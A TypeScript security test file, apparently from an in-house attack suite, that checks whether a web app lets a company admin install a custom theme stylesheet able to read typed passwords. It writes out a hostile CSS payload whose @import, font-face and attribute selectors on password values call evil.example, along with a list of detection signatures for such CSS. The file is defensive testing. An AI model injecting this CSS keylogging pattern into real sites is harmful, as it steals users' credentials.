import { companiesApi } from '#contract/companies/companies.ts'
import { startStylesheet } from './own-https.ts'
import { held, notPlayed, signIn, stranger, type Attack, type Finding, type Target } from './target.ts'

const PAGES_OF_SECRETS = ['/login', '/onboarding', '/dashboard/me/security']

/** Reads what is typed letter by letter, and calls home by every way a stylesheet has. */
const hostile = `
@import url("https://evil.example/more.css");
@font-face { font-family: spy; src: url("https://evil.example/font"); }
input[type="password"][value^="t"] { background: url("https://evil.example/t"); }
form:has(input[value$="x"]) { list-style: url("https://evil.example/x"); }
body { border-color: rebeccapurple; }`
const signs = ['evil.example', '@import', '[value^=', '[value$=', ':has(input[value']

/** Every stylesheet that a page links, and what the server serves under it. */
async function stylesOf(target: Target, path: string) {
  const page = await stranger(target).raw('GET', path)
  const links = [...page.text.matchAll(/<link\b[^>]*>/g)]
    .map(([tag]) => tag)
    .filter((tag) => /rel="?[^">]*stylesheet/.test(tag))
    .map((tag) => (/href="([^"]+)"/.exec(tag)?.[1] ?? '').replaceAll('&amp;', '&'))
  const own = links.filter((href) => href.startsWith('/'))
  const texts = await Promise.all(own.map(async (href) => (await stranger(target).raw('GET', href)).text))
  return { policy: String(page.headers['content-security-policy']), links, texts }
}

async function worn(target: Target, origin: string): Promise<Finding[]> {
  const pages = await Promise.all([...PAGES_OF_SECRETS, '/dashboard'].map((path) => stylesOf(target, path)))
  const { data } = await stranger(target).call(companiesApi.bySlug, { params: { slug: 'demo' } })
  const served = Object.values(data?.themes ?? {}).filter((href) => href !== null && href !== undefined)
  const texts = await Promise.all(
    served
      .filter((href) => href.startsWith('/'))
      .map(async (href) => (await stranger(target).raw('GET', href)).text),
  )
  const all = [...texts, ...pages.flatMap((page) => page.texts)].join('\n')
  const policies = pages.map(({ policy }) => policy).join('\n')
  const foreign = [...served, ...pages.flatMap(({ links }) => links)].filter((href) => !href.startsWith('/'))
  const found = signs.filter((sign) => all.includes(sign))
  return [
    held(
      'no policy lets a company’s own origin in',
      !policies.includes(origin) && !policies.includes('evil.example'),
      policies.includes(origin) ? `the policy names ${origin}` : 'the policies name none',
    ),
    held(
      'browsers are led to our own stylesheets alone',
      foreign.length === 0,
      foreign.length ? `led to ${foreign[0]}` : 'all of them are ours',
    ),
    held(
      'what could read a field or call home is gone from what is served',
      found.length === 0,
      found.length ? `served: ${found.join(' ')}` : `nothing of ${signs.join(' ')}`,
    ),
    held(
      'screens where secrets are typed wear no company’s stylesheet',
      PAGES_OF_SECRETS.every((_, i) => pages[i]?.texts.every((text) => !text.includes('rebeccapurple'))),
      PAGES_OF_SECRETS.join(', '),
    ),
  ]
}

/** H1: a company's own stylesheet that spells what is typed. */
export const stylesheets: Attack = {
  id: 'H1',
  title: 'a company’s stylesheet that reads what is typed',
  async play(target) {
    const admin = await signIn(target, 'admin@demo.test')
    const before = await admin.ok(companiesApi.settings)
    const host = await startStylesheet(hostile)
    const address = host?.url ?? 'https://127.0.0.1:1/theme.css'
    try {
      const params = { id: before.id }
      const saved = await admin.call(companiesApi.updateSettings, {
        params,
        body: { themes: { light: address, dark: address } },
      })
      const findings = await worn(target, new URL(address).origin)
      const nonsense = new URL('/999.css', address).href
      await admin
        .call(companiesApi.updateSettings, { params, body: { themes: { light: nonsense } } })
        .catch(() => undefined)
      const stands = await stranger(target)
        .raw('GET', '/login')
        .then(({ status }) => status === 200)
        .catch(() => false)
      findings.push(
        held(
          'an address that answers what is no answer ends nothing',
          stands,
          stands ? 'the server is there' : 'the server is gone',
        ),
      )
      await admin.call(companiesApi.updateSettings, { params, body: { themes: before.themes } })
      const note =
        saved.status === 200
          ? held('a stylesheet is taken and cleaned, or refused', true, 'it was taken')
          : notPlayed('a stylesheet is taken and cleaned', `refused by ${saved.status} ${saved.error?.code}`)
      return [...findings, note]
    } finally {
      host?.stop()
    }
  },
}
